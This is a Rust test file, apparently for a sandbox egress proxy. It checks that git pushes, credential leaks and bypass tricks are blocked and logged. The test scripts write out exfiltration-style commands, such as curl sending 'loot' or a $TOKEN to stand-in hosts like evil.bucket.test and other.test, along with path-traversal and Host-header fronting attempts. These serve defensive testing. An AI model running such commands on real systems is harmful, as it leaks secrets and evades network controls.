    assert!(!range.targets().iter().any(|target| {
        target.contains("else/where")
            || target.contains("owner/other") && target.contains("receive-pack")
    }));
}

#[test]
fn row_39_both_steps_of_a_push_are_judged_by_themselves() {
    let range = Range::new("", GIT);
    range.repositories(&["owner/site", "owner/other"]);
    let script = r#"
zero, one = '0' * 40, '1' * 40
def line(text): return f'{len(text) + 4:04x}{text}'.encode()
def push(way, path, name, new=one, more='', method='POST'):
    body = line(f'{zero} {new} {name}\0 report-status\n') + b'0000'
    head = f'{method} {path} HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\nContent-Type: application/x-git-receive-pack-request\r\n{more}Content-Length: {len(body)}\r\n\r\n'
    return code(ask(way, head.encode() + body))
def get(way, path): return code(ask(way, f'GET {path} HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n'.encode()))
for way in ('tunnel', 'direct'):
    r = '/git/owner/other.git'; s = '/git/owner/site.git'
    bad = [get(way, r + '/info/refs?service=git-receive-pack'), push(way, r + '/git-receive-pack', 'refs/heads/agent/x'),
           push(way, s + '/git-receive-pack', 'refs/heads/main'), push(way, r + '//git-receive-pack', 'refs/heads/agent/x'),
           push(way, s + '/../other.git/git-receive-pack', 'refs/heads/agent/x'), push(way, r + '/git%2Dreceive%2dpack', 'refs/heads/agent/x'),
           push(way, r + '/git-receive-pack/', 'refs/heads/agent/x'), push(way, r + '/git-receive-pack;x', 'refs/heads/agent/x'),
           push(way, r + '/GIT-receive-pack', 'refs/heads/agent/x'), push(way, r + '/git-receive-pack?x', 'refs/heads/agent/x', method='PUT'),
           push(way, s + '/git-receive-pack', 'refs/heads/agent/../main'), push(way, s + '/git-receive-pack', 'refs/heads/agent/x', more='Content-Encoding: br\r\n'),
           get(way, r + '/info/refs?service=git-upload-pack&service=git-receive-pack'), get(way, '/page'), push(way, '/upload', 'x')]
    print(way, [n for n, c in enumerate(bad) if c == '-'])
    print(way, get(way, s + '/info/refs?service=git-receive-pack'), get(way, r + '/info/refs?service=git-upload-pack'))
"#;
    let lines = range.python(script);
    let expected = ["tunnel []", "tunnel - -", "direct []", "direct - -"];
    assert_eq!(lines, expected);
    let mut targets = range.targets();
    targets.sort();
    targets.dedup();
    assert_eq!(
        targets,
        [
            "/git/owner/other.git/info/refs?service=git-upload-pack",
            "/git/owner/site.git/info/refs?service=git-receive-pack"
        ]
    );
}

#[test]
fn row_39_a_push_that_holds_a_bound_secret_is_refused() {
    let credential = ATTACHED.replace(
        "attach = { header = \"Authorization\", format = \"Bearer {}\" }",
        "attach = { basic = \"git\" }",
    );
    let range = Range::new("", &format!("{GIT}{credential}"));
    range.repositories(&["owner/site"]);
    let script = format!(
        "cd /tmp; git clone -q https://origin.test/git/owner/site.git site; cd site; echo two > file; {COMMIT} -a -m two; \
         git push -q origin HEAD:agent/one && echo pushed; echo 'x {SECRET} y' > leak; git add leak; {COMMIT} -m leak; \
         git push -q origin HEAD:agent/two || echo refused; git rm -q leak; {COMMIT} -m gone; git push -q origin HEAD:agent/two || echo refused"
    );
    let finished = range.sh(&script);
    assert_eq!(
        finished.stdout, "pushed\nrefused\nrefused\n",
        "{finished:?}"
    );
    assert_eq!(
        range.references("owner/site"),
        "refs/heads/agent/one\nrefs/heads/main"
    );
    range.expect_logged(&["\"network_alert\"", "\"git-secret\""]);
    // The secret itself went where it belongs.
    let basic = range
        .world
        .outside_sh(&format!("printf 'git:{SECRET}' | base64 -w0"));
    assert!(range.internet.saw_text(&basic.ok()));
}

/// A token that was minted for one request must leave in no later push either,
/// wherever the sandbox has it from.
#[test]
fn row_39_a_push_that_holds_a_minted_token_is_refused() {
    let credential = "[[credential]]\nname = \"minted\"\nhost = \"origin.test\"\nattach = { basic = \"git\" }\n\
        from = { oauth2 = { token_url = \"https://id.test/oauth/token/1000\", client_id = \"me\", client_secret = { file = \"~/token\" } } }\n";
    let range = Range::new("", &format!("{GIT}{credential}"));
    range.internet.zone("id.test", &[ORIGIN]);
    range.repositories(&["owner/site"]);
    let script = format!(
        "cd /tmp; git clone -q https://origin.test/git/owner/site.git site; cd site; echo 'x minted-token-2 y' > other; git add other; {COMMIT} -m two; \
         git push -q origin HEAD:agent/one && echo pushed; echo 'x minted-token-1 y' > leak; git add leak; {COMMIT} -m leak; \
         git push -q origin HEAD:agent/two || echo refused"
    );
    let finished = range.sh(&script);
    assert_eq!(finished.stdout, "pushed\nrefused\n", "{finished:?}");
    let minted = range.world.outside_sh("printf git:minted-token-1 | base64");
    assert!(range.internet.saw_text(minted.ok().trim()));
    range.expect_logged(&["\"network_alert\"", "\"git-secret\""]);
}

#[test]
fn row_40_a_host_of_many_tenants_is_allowed_by_tenant() {
    let rule = "[[network.rule]]\nhost = \"origin.test\"\npaths = [\"/acme/site/**\"]\nmethods = [\"GET\", \"POST\"]\n\
                [[network.rule]]\nhost = \"acme.bucket.test\"\n";
    let range = Range::new("", rule);
    for name in ["acme.bucket.test", "evil.bucket.test", "bucket.test"] {
        range.internet.zone(name, &[ORIGIN]);
    }
    let curl = "curl -sSk --max-time 30 -o /dev/null -w '%{http_code} ' --data-binary loot";
    let mut script = String::new();
    for way in ["", "--noproxy '*'"] {
        for path in [
            "acme/site/x",
            "evil/drop",
            "acme/site/../../evil/drop",
            "acme/site2/x",
            "gists",
            "acme",
        ] {
            script += &format!("{curl} {way} --path-as-is https://origin.test/{path}\n");
        }
        script += &format!("{curl} {way} https://acme.bucket.test/x\n");
        for host in [
            "evil.bucket.test",
            "bucket.test",
            "acme.bucket.test.evil.test",
        ] {
            script += &format!("{curl} {way} https://{host}/x || echo\n");
        }
    }
    let finished = range.sh(&script);
    let expected = "200 403 403 403 403 403 200 000 000 000";
    let codes: Vec<&str> = finished.stdout.split_whitespace().collect();
    assert_eq!(codes.join(" "), [expected; 2].join(" "), "{finished:?}");
    let mut targets = range.targets();
    targets.sort();
    targets.dedup();
    assert_eq!(targets, ["/acme/site/x", "/x"]);
    assert!(!range.internet.saw_text("evil"));
}

const REPLACED: &str = "[[credential]]\nname = \"token\"\nhost = \"origin.test\"\nfrom = { file = \"~/token\" }\nvariable = \"TOKEN\"\n\
                        replace = { header = \"Authorization\", format = \"Bearer {}\" }\n";

#[test]
fn row_41_an_own_credential_is_refused_where_one_is_bound() {
    let range = Range::new("allow = [\"origin.test\", \"free.test\"]", ATTACHED);
    range.internet.zone("free.test", &[ORIGIN]);
    let own = [
        "-H 'Authorization: Bearer attackers-own'",
        "-H 'authorization: token attackers-own'",
        "-u attackers-own:x",
        "-H 'X-Api-Key: attackers-own'",
        "-H 'PRIVATE-TOKEN: attackers-own'",
        "-H 'Cookie: session=attackers-own'",
        "-G -d access_token=attackers-own",
        "-G -d 'api%5Fkey=attackers-own'",
    ];
    let curl = "curl -sS --max-time 30 -o /dev/null -w '%{http_code} '";
    let script: String = ["--http1.1", "--http2", "--noproxy '*'"]
        .iter()
        .flat_map(|way| own.map(|own| format!("{curl} {way} {own} https://origin.test/page\n")))
        .collect();
    assert_eq!(range.sh(&script).ok(), ["403"; 24].join(" "));
    assert_eq!(range.targets(), Vec::<String>::new());
    range.expect_logged(&["\"network_alert\"", "\"foreign-credential\""]);
    // What programs send nothing to gets the secret; other hosts take what
    // they are sent.
    let script = format!(
        "{curl} https://origin.test/page; {curl} -k -H 'Authorization: Bearer own' https://free.test/page"
    );
    assert_eq!(range.sh(&script).ok(), "200 200");
    let requests = range.internet.seen("request");
    assert!(carries_secret(&requests[0]), "{requests:?}");
    assert!(!carries_secret(&requests[1]), "{requests:?}");
    range.internet.forget();
    range.policy("allow = [\"origin.test\"]", REPLACED);
    let script = format!(
        "[ \"$TOKEN\" != {SECRET} ] && {curl} -H \"Authorization: Bearer $TOKEN\" https://origin.test/page; \
         {curl} -H \"Authorization: Bearer x$TOKEN\" https://origin.test/page; {curl} -H 'Authorization: Bearer {SECRET}' https://origin.test/page"
    );
    assert_eq!(range.sh(&script).ok(), "200 403 403");
    assert_eq!(range.internet.seen("request").len(), 1);
    assert!(carries_secret(&range.internet.seen("request")[0]));
}

#[test]
fn row_42_a_placeholder_off_its_binding_is_an_alarm() {
    let rules = format!(
        "[[network.rule]]\nhost = \"other.test\"\nmethods = [\"GET\", \"POST\"]\n{REPLACED}"
    );
    let range = Range::new("allow = [\"origin.test\"]", &rules);
    range.internet.zone("other.test", &[EVIL]);
    let off = [
        "-H \"Authorization: Bearer $TOKEN\" https://other.test/",
        "-H \"X-Other: a-$TOKEN-b\" https://other.test/",
        "-u \"x:$TOKEN\" https://other.test/",
        "\"https://other.test/?q=$TOKEN\"",
        "\"https://other.test/$TOKEN/x\"",
        "-d \"q=$TOKEN\" https://other.test/",
        "--data-binary \"$(printf %s \"$TOKEN\" | base64 -w0)\" https://other.test/",
        "-H \"Authorization: Bearer $TOKEN\" http://other.test/",
        "-H \"Authorization: Bearer $TOKEN\" http://origin.test/",
        "-H \"X-Other: $TOKEN\" https://origin.test/",
        "-d \"q=$TOKEN\" https://origin.test/",
    ];
    let curl = "curl -sS --max-time 30 -o /dev/null -w '%{http_code} '";
    let script: String = ["--http1.1", "--http2 --noproxy '*'"]
        .iter()
        .flat_map(|way| off.map(|off| format!("{curl} {way} {off}\n")))
        .collect();
    let finished = range.sh(&script);
    let codes: Vec<&str> = finished.stdout.split_whitespace().collect();
    assert_eq!(codes, ["403"; 22], "{finished:?}");
    range.expect_logged(&["\"network_alert\"", "\"placeholder-off-binding\""]);
    range.internet.forget();
    let script = format!(
        "{curl} -H \"Authorization: Bearer $TOKEN\" https://origin.test/; {curl} -d q=plain https://other.test/; printf %s \"$TOKEN\" > seen"
    );
    assert_eq!(range.sh(&script).ok(), "200 200");
    let requests = range.internet.seen("request");
    assert!(carries_secret(&requests[0]), "{requests:?}");
    let placeholder = std::fs::read_to_string(range.world.project.join("seen")).unwrap();
    assert_eq!(placeholder.len(), SECRET.len());
    assert!(!range.internet.saw_text(&placeholder));
}

#[test]
fn b24_a_name_that_is_allowed_does_not_front_for_another() {
    let range = Range::new("", INSPECT);
    range.internet.zone("evil.test", &[EVIL]);
    let curl = "curl -sSk --max-time 30 -o /dev/null -w '%{http_code} '";
    let mut script = String::new();
    for version in ["--http1.1", "--http2"] {
        for way in ["", "--noproxy '*'"] {
            script += &format!(
                "{curl} {version} {way} -H 'Host: evil.test' https://origin.test/; {curl} {version} {way} https://origin.test/\n"
            );
        }
    }
    assert_eq!(range.sh(&script).ok(), ["421 200"; 4].join(" "));
    assert!(!range.internet.saw_text("evil"));
    let hellos = r#"
ECH = b'\xfe\x0d' + struct.pack('>H', 10) + bytes([0, 0, 1, 0, 1, 7, 0, 0, 0, 0])
for make in (lambda: tunnel('origin.test'), lambda: socket.create_connection(('origin.test', 443), 30)):
    print(greet(make(), record(hello('origin.test'))), greet(make(), record(hello(None))), greet(make(), record(hello('evil.test'))), greet(make(), record(hello('origin.test', ECH))))
"#;
    // Without inspection a hello that hides its name does not pass, and what
    // is inside the tunnel still only reaches the addresses of its name.
    range.policy("allow = [\"origin.test\"]", "");
    for line in range.python(hellos) {
        let answers: Vec<&str> = line.split(' ').collect();
        assert_eq!(answers[0], "hello", "{line}");
        assert_eq!(answers.len(), 4, "{line}");
        assert!(!answers[1..].contains(&"hello"), "{line}");
    }
    range.expect_logged(&["\"ech\"", "origin.test:443"]);
    range.internet.forget();
    let script = format!("{curl} -H 'Host: evil.test' https://origin.test/");
    assert_eq!(range.sh(&script).ok(), "200");
    let requests = range.internet.seen("request");
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0]["address"], ORIGIN);
    assert_eq!(requests[0]["sni"], "origin.test");
}
